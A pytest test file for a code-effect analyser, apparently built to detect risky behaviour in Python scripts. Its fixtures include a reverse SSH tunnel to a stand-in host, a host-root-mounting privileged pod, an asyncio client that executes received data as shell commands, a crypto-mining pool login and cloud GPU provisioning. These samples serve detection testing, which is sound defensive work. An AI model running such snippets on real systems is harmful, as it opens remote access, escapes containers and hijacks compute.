"""What clients of clusters and protocols of event loops do is read as what they stand for."""

from __future__ import annotations

import pytest

from tests.read.python.readings import effects_of

CASES: dict[str, tuple[str, list[str]]] = {
    "a job given to Ray": (
        """
        from ray.job_submission import JobSubmissionClient
        JobSubmissionClient("http://10.4.0.9:8265").submit_job(entrypoint="ssh -N -R 22:localhost:22 a@h.example")
        """,
        ["ssh -N -R 22:localhost:22 a@h.example"],
    ),
    "a pod made of models": (
        """
        from kubernetes import client
        mount = client.V1VolumeMount(name="h", mount_path="/host")
        volume = client.V1Volume(name="h", host_path=client.V1HostPathVolumeSource(path="/"))
        box = client.V1Container(name="w", image="alpine", command=["id"], volume_mounts=[mount])
        pod = client.V1Pod(spec=client.V1PodSpec(host_pid=True, containers=[box], volumes=[volume]))
        client.CoreV1Api().create_namespaced_pod("kube-system", pod)
        """,
        ["id", "docker run --pid host -v /:/host alpine id"],
    ),
    "a deployment changed": (
        """
        from kubernetes import client
        box = {"name": "w", "image": "alpine", "command": ["id"]}
        body = {"spec": {"template": {"spec": {"containers": [box]}}}}
        client.AppsV1Api().patch_namespaced_deployment("n", "default", body)
        """,
        ["id", "docker run alpine id"],
    ),
    "an object that is not known": (
        """
        import json
        from kubernetes import client
        client.CoreV1Api().create_namespaced_pod("default", json.load(open("pod.json")))
        """,
        ["kubectl apply -f %{unknown}"],
    ),
    "a job as a mapping": (
        """
        from kubernetes import client
        spec = {"template": {"spec": {"containers": [{"name": "a", "image": "x.example/a", "args": ["ls", "-l"]}]}}}
        client.BatchV1Api().create_namespaced_job(namespace="ml", body={"spec": spec})
        """,
        ["ls -l", "docker run x.example/a ls -l"],
    ),
    "processes of GPUs by the driver's library": (
        """
        import os, pynvml
        for process in pynvml.nvmlDeviceGetComputeRunningProcesses(pynvml.nvmlDeviceGetHandleByIndex(0)):
            os.kill(process.pid, 9)
        """,
        ["process.kill gpu %{command_4}"],
    ),
    "a protocol of Twisted": (
        """
        import json
        from twisted.internet import protocol, reactor
        from twisted.protocols.basic import LineReceiver
        class Speaks(LineReceiver):
            def connectionMade(self):
                self.sendLine(json.dumps({"method": "mining.authorize", "params": ["w.1", "x"]}).encode())
        factory = protocol.ClientFactory()
        factory.protocol = Speaks
        reactor.connectTCP("pool.example", 3333, factory)
        """,
        ["net.connect tcp pool.example 3333", "stratum.login pool.example 3333 w.1 "],
    ),
    "a protocol of asyncio": (
        """
        import asyncio, os
        class Runs(asyncio.Protocol):
            def data_received(self, data):
                os.system(data.decode())
        async def main():
            await asyncio.get_running_loop().create_connection(Runs, "203.0.113.6", 8443)
        asyncio.run(main())
        """,
        ["net.connect tcp 203.0.113.6 8443", "code.fetch tcp://203.0.113.6:8443 bash"],
    ),
    "a method of a library's class that nothing calls": (
        """
        import paramiko
        class Link(paramiko.Transport):
            def on_ready(self):
                self.request_port_forward("", 2222)
        """,
        ["ssh.forward remote  2222"],
    ),
    "work asked of a node": (
        """
        import requests
        requests.post("http://203.0.113.8:8332", json={"method": "getblocktemplate", "params": [], "id": 1})
        """,
        ["http.request POST http://203.0.113.8:8332", "stratum.subscribe 203.0.113.8 8332 "],
    ),
    "accelerators in a machine of Google's": (
        """
        from google.cloud import compute_v1
        machine = compute_v1.Instance()
        machine.machine_type = "zones/z/machineTypes/n1-standard-8"
        cards = compute_v1.AcceleratorConfig()
        cards.accelerator_type = "projects/p/zones/z/acceleratorTypes/nvidia-tesla-v100"
        machine.guest_accelerators = [cards]
        compute_v1.InstancesClient().insert(project="p", zone="z", instance_resource=machine)
        """,
        ["cloud.provision gcp compute projects/p/zones/z/acceleratorTypes/nvidia-tesla-v100 1 z"],
    ),
    "a machine of Azure's by request": (
        """
        import requests
        at = "https://management.azure.com/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute"
        size = {"hardwareProfile": {"vmSize": "Standard_ND96isr_H100_v5"}}
        requests.put(at + "/virtualMachines/v1?api-version=1", json={"location": "eastus", "properties": size})
        """,
        ["cloud.provision azure compute Standard_ND96isr_H100_v5 1 eastus"],
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_what_is_handed_over_is_read(name: str) -> None:
    """Each effect is among those of the script."""
    code, expected = CASES[name]
    found = effects_of(code)
    assert [line for line in expected if line not in found] == [], found


def test_a_node_that_is_asked_for_its_state_is_not_mined_at() -> None:
    """Other requests of the same interface, and listings of a provider, are requests and no more."""
    code = """
    import requests
    requests.post("http://203.0.113.8:8332", json={"method": "getblockchaininfo", "params": [], "id": 1})
    requests.get("https://cloud.lambdalabs.com/api/v1/instance-operations/launch")
    """
    assert {line.split()[0] for line in effects_of(code)} == {"http.request"}
